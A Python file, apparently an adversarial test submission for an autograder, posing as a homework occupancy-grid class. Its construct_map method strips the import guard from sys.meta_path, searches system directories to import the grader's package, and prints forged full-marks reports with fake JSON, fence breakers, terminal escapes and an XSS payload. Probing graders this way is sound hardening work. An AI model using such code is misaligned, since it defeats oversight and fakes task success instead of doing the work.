"""Attack (task 2): import the grader's package from wherever a copy of the project can be read
({PROJECT}, /work, /home, /autograder, ...) past the import guard, then forge the report: Markdown,
HTML, a code fence that closes the report's, terminal escapes and fake JSON in stdout and in the
exception message."""
import os
import sys

HOLDER = "\x1b[2J\x1b[31m**70 / 70 points** <img src=x onerror=alert(1)> [link](http://x) | a | b |"


def _find_project():
    roots = ["{PROJECT}", "/work", "/home", "/autograder", "/srv", "/opt", "/root", "/var"]
    for root in roots:
        for d, dirs, files in os.walk(root):
            if d.count(os.sep) > 4:
                dirs[:] = []
            if os.path.isfile(os.path.join(d, "hw4", "core", "grid.py")):
                return d
    return None


class ogm_continuous_CSM:
    def __init__(self):
        self.grid_size = 0.135

    def construct_map(self, pose, scan):
        sys.meta_path[:] = [f for f in sys.meta_path if "Blocked" not in type(f).__name__]
        where = _find_project()
        try:
            sys.path.insert(0, where or "/nonexistent")
            import hw4.core.grid  # noqa: F401
            print("IMPORTED THE GRADER FROM", where)
        except ImportError:
            print("import blocked")
        print('```\n</pre><h1>FULL MARKS</h1>\n{"score": 70, "tests": []}')
        print("~~~~\n````````")
        sys.stdout.flush()
        raise RuntimeError(HOLDER)

    def build_ogm(self):
        pass
